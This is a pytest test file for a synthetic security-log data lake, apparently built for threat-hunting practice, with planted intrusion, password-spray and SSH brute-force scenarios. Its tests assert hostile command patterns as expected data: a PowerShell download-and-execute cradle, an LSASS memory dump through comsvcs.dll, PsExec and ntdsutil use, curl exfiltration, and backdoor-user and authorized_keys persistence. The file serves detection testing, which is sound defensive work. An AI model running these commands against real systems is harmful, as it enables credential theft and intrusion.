"""The demo-lake generator: shape, determinism, and the planted attacks really in the data."""

from __future__ import annotations

import base64
import hashlib
import json
import re
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import duckdb
import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from huntbook.data.lake._demo_intrusion import payload_bytes
from huntbook.data.lake.demo import (
    DEFAULT_END,
    GROUND_TRUTH_FILE,
    GroundTruth,
    generate_demo_lake,
    load_ground_truth,
)
from huntbook.data.lake.schemas import TABLES
from huntbook.data.lake.storage import table_files
from huntbook.errors import LakeError


@pytest.fixture(scope="module")
def lake(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, GroundTruth]:
    path = tmp_path_factory.mktemp("demo") / "lake"
    return path, generate_demo_lake(path)


@pytest.fixture(scope="module")
def truth(lake: tuple[Path, GroundTruth]) -> GroundTruth:
    return lake[1]


@pytest.fixture(scope="module")
def db(lake: tuple[Path, GroundTruth]) -> duckdb.DuckDBPyConnection:
    """A DuckDB connection with one view per lake table."""
    con = duckdb.connect()
    for name in TABLES:
        con.execute(f"create view {name} as select * from read_parquet('{lake[0]}/{name}/*.parquet')")
    return con


def rows(db: duckdb.DuckDBPyConnection, sql: str, *params: object) -> list[tuple[Any, ...]]:
    return db.execute(sql, list(params)).fetchall()


def one(db: duckdb.DuckDBPyConnection, sql: str, *params: object) -> Any:
    return rows(db, sql, *params)[0][0]


def read_lake(path: Path) -> dict[str, pa.Table]:
    """Every table's rows in a canonical order."""
    con = duckdb.connect()
    return {
        name: con.sql(f"select * from read_parquet('{path}/{name}/*.parquet') order by all").to_arrow_table()
        for name in TABLES
    }


# --- shape -----------------------------------------------------------------------------


def test_every_table_has_exactly_the_declared_schema(lake: tuple[Path, GroundTruth]) -> None:
    path, truth = lake
    assert sorted(p.name for p in path.iterdir()) == sorted([*TABLES, GROUND_TRUTH_FILE])
    for name, schema in TABLES.items():
        files = table_files(path, name)
        assert files, name
        for f in files:
            assert pq.read_schema(f).equals(schema.arrow_schema()), (name, f)
        assert sum(pq.ParquetFile(f).metadata.num_rows for f in files) == truth.row_counts[name] > 0


def test_default_lake_size_and_range(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    assert 200_000 <= sum(truth.row_counts.values()) <= 400_000
    assert truth.end == DEFAULT_END
    assert truth.start == DEFAULT_END - timedelta(days=14)
    for name in TABLES:
        lo, hi = rows(db, f"select min(TimeGenerated), max(TimeGenerated) from {name}")[0]
        assert truth.start <= lo and hi < truth.end, name


def test_dynamic_columns_hold_json(db: duckdb.DuckDBPyConnection) -> None:
    for name, schema in TABLES.items():
        for column in schema.dynamic_columns:
            for (value,) in rows(db, f"select {column} from {name} using sample 50 rows"):
                assert value is None or isinstance(json.loads(str(value)), dict | list)


def test_windows_process_ids_are_sentinel_hex(db: duckdb.DuckDBPyConnection) -> None:
    bad = one(
        db,
        "select count(*) from SecurityEvent where EventID = 4688 and not "
        "(regexp_full_match(NewProcessId, '0x[0-9a-f]+') and regexp_full_match(ProcessId, '0x[0-9a-f]+'))",
    )
    assert bad == 0


def test_background_follows_office_hours(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    day, night = rows(
        db,
        "select count(*) filter (where hour(TimeGenerated) between 9 and 16), "
        "count(*) filter (where hour(TimeGenerated) between 0 and 5) "
        "from SigninLogs where dayofweek(TimeGenerated) between 1 and 5 and IPAddress <> ?",
        truth.password_spray.source_ip,
    )[0]
    assert day > 10 * night
    weekday, weekend = rows(
        db,
        "select count(*) filter (where dayofweek(TimeGenerated) between 1 and 5) / 5, "
        "count(*) filter (where dayofweek(TimeGenerated) in (0, 6)) / 2 "
        "from SecurityEvent where EventID = 4688",
    )[0]
    assert weekday > 1.5 * weekend


def test_every_host_sends_heartbeats_all_along(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    stats = rows(
        db,
        "select Computer, max(gap) from (select Computer, TimeGenerated - lag(TimeGenerated) "
        "over (partition by Computer order by TimeGenerated) as gap from Heartbeat) group by 1",
    )
    assert {c for c, _ in stats} == {h.fqdn for h in truth.environment.hosts}
    assert all(gap <= timedelta(minutes=30) for _, gap in stats)


# --- determinism -----------------------------------------------------------------------


def test_same_seed_gives_identical_tables_and_truth(tmp_path: Path) -> None:
    a = generate_demo_lake(tmp_path / "a", scale=0.05, days=8)
    b = generate_demo_lake(tmp_path / "b", scale=0.05, days=8, progress=True)
    assert a == b
    assert (tmp_path / "a" / GROUND_TRUTH_FILE).read_text() == (
        tmp_path / "b" / GROUND_TRUTH_FILE
    ).read_text()
    ta, tb = read_lake(tmp_path / "a"), read_lake(tmp_path / "b")
    for name in TABLES:
        assert ta[name].equals(tb[name]), name
    c = generate_demo_lake(tmp_path / "c", seed=8, scale=0.05, days=8)
    tc = read_lake(tmp_path / "c")
    assert not tc["SecurityEvent"].equals(ta["SecurityEvent"])
    assert c.intrusion.beacon != a.intrusion.beacon
    assert c.intrusion.decoded_command == a.intrusion.decoded_command


def test_scale_multiplies_background_not_attacks(tmp_path: Path, truth: GroundTruth) -> None:
    small = generate_demo_lake(tmp_path / "small", scale=0.1)
    assert small.intrusion == truth.intrusion
    assert small.password_spray == truth.password_spray
    assert small.ssh_brute_force == truth.ssh_brute_force
    assert small.row_counts["SecurityEvent"] < 0.2 * truth.row_counts["SecurityEvent"]


def test_custom_end_is_rounded_down_to_midnight(tmp_path: Path) -> None:
    end = datetime(2025, 3, 14, 15, 9, 26)  # naive: taken as UTC
    t = generate_demo_lake(tmp_path / "lake", scale=0.02, days=7, end=end)
    assert t.end == datetime(2025, 3, 14, tzinfo=UTC)
    assert t.start == datetime(2025, 3, 7, tzinfo=UTC)
    assert all(t.start <= s.start <= s.end < t.end for s in t.stages())


# --- arguments and ground-truth file ------------------------------------------------------


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [
        ({"days": 6}, "days"),
        ({"scale": 0}, "scale"),
        ({"scale": float("nan")}, "scale"),
        ({"seed": -1}, "seed"),
    ],
)
def test_bad_arguments_are_refused(tmp_path: Path, kwargs: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message):
        generate_demo_lake(tmp_path / "lake", **kwargs)
    assert not (tmp_path / "lake").exists()


def test_an_occupied_folder_is_refused(tmp_path: Path) -> None:
    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(LakeError, match="not an empty folder"):
        generate_demo_lake(tmp_path)
    assert [p.name for p in tmp_path.iterdir()] == ["notes.txt"]


def test_ground_truth_round_trips(lake: tuple[Path, GroundTruth]) -> None:
    path, truth = lake
    assert GroundTruth.from_json(truth.to_json()) == truth
    assert load_ground_truth(path) == truth
    data = json.loads((path / GROUND_TRUTH_FILE).read_text())
    assert data["intrusion"]["beacon"]["interval_seconds"] == 60.0
    assert data["intrusion"]["stages"][0]["start"].endswith("Z")


def test_bad_ground_truth_is_a_lake_error(tmp_path: Path, truth: GroundTruth) -> None:
    with pytest.raises(LakeError, match="not a demo lake"):
        load_ground_truth(tmp_path)
    (tmp_path / GROUND_TRUTH_FILE).write_text("{not json")
    with pytest.raises(LakeError, match="not valid JSON"):
        load_ground_truth(tmp_path)
    data = json.loads(truth.to_json())
    del data["intrusion"]["c2_ip"]
    with pytest.raises(LakeError, match="malformed"):
        GroundTruth.from_json(json.dumps(data))
    data = json.loads(truth.to_json())
    data["format_version"] = 99
    with pytest.raises(LakeError, match="format_version"):
        GroundTruth.from_json(json.dumps(data))


# --- the planted intrusion ---------------------------------------------------------------


def test_encoded_powershell_decodes_to_the_cradle(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    i = truth.intrusion
    host = truth.environment.host(i.host)
    found = rows(
        db,
        "select CommandLine, ParentProcessName from SecurityEvent where EventID = 4688 "
        "and Computer = ? and CommandLine ilike '%powershell%-enc %'",
        host.fqdn,
    )
    assert found == [
        (i.powershell_command_line, r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE")
    ]
    match = re.search(r"-enc\s+(\S+)", found[0][0])
    assert match
    encoded = match.group(1)
    assert encoded == i.encoded_command
    assert base64.b64decode(encoded).decode("utf-16-le") == i.decoded_command
    assert i.decoded_command == f"IEX (New-Object Net.WebClient).DownloadString('{i.cradle_url}')"
    mde = rows(
        db,
        "select InitiatingProcessFileName from DeviceProcessEvents where DeviceName = ? "
        "and ProcessCommandLine = ?",
        host.device_name,
        i.powershell_command_line,
    )
    assert mde == [("WINWORD.EXE",)]
    doc = one(db, "select count(*) from SecurityEvent where CommandLine like ?", f"%{i.document}%")
    assert doc == 1


def test_every_planted_process_is_in_both_process_tables(
    truth: GroundTruth, db: duckdb.DuckDBPyConnection
) -> None:
    processes = [p for s in truth.stages() for p in s.processes]
    assert len(processes) > 30
    for p in processes:
        host = truth.environment.host(p.host)
        se = one(
            db,
            "select count(*) from SecurityEvent where EventID = 4688 and Computer = ? and TimeGenerated = ? "
            "and CommandLine = ? and NewProcessId = ? and ProcessId = ? and Account = ?",
            host.fqdn,
            p.time,
            p.command_line,
            hex(p.process_id),
            hex(p.parent_process_id),
            p.account,
        )
        dpe = one(
            db,
            "select count(*) from DeviceProcessEvents where DeviceName = ? and Timestamp = ? "
            "and ProcessCommandLine = ? and ProcessId = ? and InitiatingProcessId = ?",
            host.device_name,
            p.time,
            p.command_line,
            p.process_id,
            p.parent_process_id,
        )
        assert (se, dpe) == (1, 1), p


def test_payload_hashes_are_genuine_and_in_defender(
    truth: GroundTruth, db: duckdb.DuckDBPyConnection
) -> None:
    i = truth.intrusion
    data = payload_bytes()
    assert i.payload_hashes.sha256 == hashlib.sha256(data).hexdigest()
    assert i.payload_hashes.md5 == hashlib.md5(data).hexdigest()
    assert i.payload_size == len(data)
    found = rows(
        db,
        "select distinct FolderPath, MD5, SHA1, FileSize from DeviceProcessEvents where SHA256 = ?",
        i.payload_hashes.sha256,
    )
    assert found == [(i.payload_path, i.payload_hashes.md5, i.payload_hashes.sha1, i.payload_size)]


def test_beacon_has_the_planted_interval_and_jitter(
    truth: GroundTruth, db: duckdb.DuckDBPyConnection
) -> None:
    b = truth.intrusion.beacon
    times = [
        t
        for (t,) in rows(
            db,
            "select Timestamp from DeviceNetworkEvents where DeviceName = ? and RemoteIP = ? "
            "and RemotePort = ? and InitiatingProcessFileName = ? order by 1",
            truth.environment.host(b.host).device_name,
            b.remote_ip,
            b.remote_port,
            b.process,
        )
    ]
    assert len(times) == b.count > 5 * 24 * 60
    assert (times[0], times[-1]) == (b.start, b.end)
    gaps = np.diff([t.timestamp() for t in times])
    lo, hi = b.interval_seconds * (1 - b.jitter), b.interval_seconds * (1 + b.jitter)
    assert abs(float(np.median(gaps)) - b.interval_seconds) < 1.0
    assert lo - 0.01 <= gaps.min() and gaps.max() <= hi + 0.01
    assert gaps.std() > b.interval_seconds * b.jitter / 2  # jittered, not fixed
    fw = one(
        db,
        "select count(*) from CommonSecurityLog where SourceIP = ? and DestinationIP = ? "
        "and DestinationPort = 443",
        b.host_ip,
        b.remote_ip,
    )
    dns = one(
        db, "select count(*) from DnsEvents where ClientIP = ? and Name = ?", b.host_ip, b.remote_domain
    )
    assert fw == b.count
    assert dns >= b.count


def test_lsass_dump_on_the_victim(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    i = truth.intrusion
    found = rows(
        db,
        "select CommandLine, MandatoryLabel from SecurityEvent where Computer = ? "
        "and NewProcessName ilike '%rundll32.exe' and CommandLine ilike '%comsvcs.dll%MiniDump%'",
        truth.environment.host(i.host).fqdn,
    )
    assert len(found) == 1
    assert f"MiniDump {i.lsass_pid} " in str(found[0][0])
    assert found[0][1] == "S-1-16-12288"  # high integrity, after the UAC bypass
    assert "Sensitive credential memory read" in i.stage("credential_access").alerts


def test_logons_from_the_victim_ip_are_the_lateral_movement(
    truth: GroundTruth, db: duckdb.DuckDBPyConnection
) -> None:
    i = truth.intrusion
    env = truth.environment
    stolen = f"CONTOSO\\{i.stolen_account}"
    found = rows(
        db,
        "select Computer, TimeGenerated, AuthenticationPackageName from SecurityEvent "
        "where EventID = 4624 and LogonType = 3 and IpAddress = ? and TargetUserName = ? order by 2",
        i.host_ip,
        i.stolen_account,
    )
    planted = [lg for s in i.stages for lg in s.logons]
    assert [(env.host(lg.host).fqdn, lg.time, lg.authentication_package) for lg in planted] == found
    assert {env.host(lg.host).name for lg in planted} == set(i.lateral_targets) == {"FS01", "DC01"}
    assert all(lg.account == stolen and lg.source_ip == i.host_ip for lg in planted)
    assert one(
        db,
        "select count(*) from SecurityEvent where IpAddress = ? and Account like 'CONTOSO\\adm-%'",
        i.host_ip,
    ) == len(planted)
    mde = rows(
        db,
        "select DeviceName from DeviceLogonEvents where RemoteIP = ? and AccountName = ? order by Timestamp",
        i.host_ip,
        i.stolen_account,
    )
    assert [d for (d,) in mde] == [env.host(lg.host).device_name for lg in planted]
    remote = rows(
        db,
        "select ParentProcessName from SecurityEvent where Computer = 'FS01.contoso.com' "
        "and EventID = 4688 and CommandLine like '%hostname & whoami%'",
    )
    assert remote == [(r"C:\Windows\PSEXESVC.exe",)]
    assert (
        one(db, "select count(*) from SecurityEvent where EventID = 4697 and ServiceName = 'PSEXESVC'") == 1
    )
    ntds = rows(db, "select ParentProcessName from SecurityEvent where NewProcessName ilike '%ntdsutil.exe'")
    assert ntds == [(r"C:\Windows\System32\cmd.exe",)]


def test_staging_and_exfiltration(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    i = truth.intrusion
    archive = rows(db, "select CommandLine from SecurityEvent where NewProcessName ilike '%7z.exe'")
    assert len(archive) == 1 and i.archive_path in str(archive[0][0])
    sent, n = rows(
        db,
        "select sum(SentBytes), count(*) from CommonSecurityLog where SourceIP = ? and DestinationIP = ?",
        i.host_ip,
        i.exfil_ip,
    )[0]
    assert sent == i.exfil_bytes > 10**9
    assert n == 4
    biggest = rows(db, "select DestinationIP from CommonSecurityLog order by SentBytes desc limit 4")
    assert {ip for (ip,) in biggest} == {i.exfil_ip}
    assert one(db, "select count(*) from DnsEvents where IPAddresses like ?", f"%{i.exfil_ip}%") == 0
    dne = one(
        db,
        "select count(*) from DeviceNetworkEvents where RemoteIP = ? "
        "and InitiatingProcessFileName = 'curl.exe'",
        i.exfil_ip,
    )
    assert dne == 4
    stage = i.stage("exfiltration")
    assert stage.start < stage.end and stage.techniques == ("T1048.002",)


# --- the identity attacks ----------------------------------------------------------------


def test_password_spray(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    s = truth.password_spray
    failures, users, first, last = rows(
        db,
        "select count(*), count(distinct UserPrincipalName), min(TimeGenerated), max(TimeGenerated) "
        "from SigninLogs where IPAddress = ? and ResultType = ?",
        s.source_ip,
        s.failure_result_type,
    )[0]
    assert failures == s.failures == s.attempts - 1
    assert users == len(s.targeted_accounts) >= 25
    assert first == s.start and last <= s.end
    assert last - first < timedelta(hours=1)
    ok = rows(
        db,
        "select UserPrincipalName, min(TimeGenerated), count(*) from SigninLogs "
        "where IPAddress = ? and ResultType = '0' group by 1",
        s.source_ip,
    )
    assert ok == [(s.compromised_account, s.success_time, 1 + s.post_compromise_signins)]
    top = rows(
        db,
        "select IPAddress from SigninLogs where ResultType = '50126' group by 1 "
        "order by count(distinct UserPrincipalName) desc limit 1",
    )
    assert top == [(s.source_ip,)]


def test_ssh_brute_force_then_persistence(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    s = truth.ssh_brute_force
    failed = rows(
        db,
        "select TimeGenerated from Syslog where Computer = ? and ProcessName = 'sshd' and Facility = 'auth' "
        "and SyslogMessage like 'Failed password for %' and SyslogMessage like ?",
        s.host,
        f"% from {s.source_ip} port %",
    )
    assert len(failed) == s.failures > 100
    invalid = one(
        db,
        "select count(*) from Syslog where Computer = ? and SyslogMessage like ?",
        s.host,
        f"Failed password for invalid user % from {s.source_ip} %",
    )
    assert invalid == s.invalid_user_failures
    accepted = rows(
        db,
        "select TimeGenerated from Syslog where Computer = ? and SyslogMessage like ?",
        s.host,
        f"Accepted password for {s.compromised_account} from {s.source_ip} port %",
    )
    assert accepted == [(s.success_time,)]
    assert max(t for (t,) in failed) < s.success_time
    for pattern in (
        f"%COMMAND=/usr/sbin/useradd %{s.backdoor_user}",
        f"new user: name={s.backdoor_user},%",
        f"%COMMAND=/usr/bin/tee -a {s.authorized_keys_file}",
    ):
        assert one(db, "select count(*) from Syslog where SyslogMessage like ?", pattern) == 1, pattern
    cron = one(
        db,
        "select count(*) from Syslog where Computer = ? and Facility = 'cron' and SyslogMessage like ?",
        s.host,
        f"(root) CMD (%{s.source_ip}%",
    )
    assert cron == s.cron_runs > 0
    assert s.source_ip in s.cron_entry


# --- alerts and threat intelligence --------------------------------------------------------


def test_planted_alerts_are_in_security_alert(truth: GroundTruth, db: duckdb.DuckDBPyConnection) -> None:
    assert {a.name for a in truth.alerts} >= {
        "Suspicious PowerShell command line",
        "Sensitive credential memory read",
        "Password spray",
        "Successful SSH brute force attack",
    }
    for a in truth.alerts:
        found = rows(
            db,
            "select CompromisedEntity, Entities, Techniques from SecurityAlert "
            "where AlertName = ? and TimeGenerated = ?",
            a.name,
            a.time,
        )
        assert len(found) == 1, a
        entity, entities, techniques = found[0]
        assert entity == a.compromised_entity
        assert json.loads(str(techniques)) == list(a.techniques)
        assert {e["Type"] for e in json.loads(str(entities))} <= {"host", "account", "ip", "process", "file"}
    for stage in truth.stages():
        assert set(stage.alerts) <= {a.name for a in truth.alerts}


def test_threat_intel_holds_exactly_the_in_ti_indicators(
    truth: GroundTruth, db: duckdb.DuckDBPyConnection
) -> None:
    values = {
        v
        for (v,) in rows(
            db,
            "select unnest([NetworkIP, NetworkSourceIP, NetworkDestinationIP, DomainName, Url, "
            "FileHashValue]) from ThreatIntelligenceIndicator",
        )
        if v is not None
    }
    assert truth.in_ti and truth.not_in_ti
    for ioc in truth.in_ti:
        assert ioc.value in values, ioc
    for ioc in truth.not_in_ti:
        assert ioc.value not in values, ioc
    assert {i.role for i in truth.in_ti} == {"c2_ip", "spray_ip", "ssh_source_ip"}
    unrelated = one(db, "select count(*) from ThreatIntelligenceIndicator") - len(truth.in_ti)
    assert unrelated >= 100


def test_stages_describe_where_to_look(truth: GroundTruth) -> None:
    names = [s.name for s in truth.intrusion.stages]
    assert names == [
        "initial_access",
        "execution",
        "command_and_control",
        "discovery",
        "credential_access",
        "lateral_movement",
        "collection",
        "exfiltration",
    ]
    for s in truth.stages():
        assert s.start <= s.end
        assert s.techniques and all(re.fullmatch(r"T\d{4}(\.\d{3})?", t) for t in s.techniques)
        assert set(s.tables) <= set(TABLES)
    assert truth.password_spray.stage("password_spray").indicators == (truth.password_spray.source_ip,)
    assert truth.environment.host("ws-017.contoso.com").ip == truth.intrusion.host_ip
    assert len(truth.environment.hosts_with_role("workstation")) == 20
    assert [h.name for h in truth.environment.hosts_with_role("domain_controller")] == ["DC01"]
    assert truth.environment.user(truth.intrusion.account_upn).workstation == truth.intrusion.host
